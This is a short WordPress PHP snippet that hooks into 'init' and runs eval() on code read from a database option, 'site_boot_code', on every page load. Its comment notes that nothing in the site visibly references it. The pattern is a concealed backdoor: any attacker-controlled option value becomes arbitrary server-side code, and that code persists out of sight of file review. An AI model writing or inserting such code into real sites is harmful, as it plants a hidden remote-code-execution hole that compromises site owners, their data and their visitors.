<?php
// code kept in the settings and run on every page: no shortcode names it
add_action('init', 'site_boot');
function site_boot() {
    $boot = get_option('site_boot_code');
    eval($boot);
}
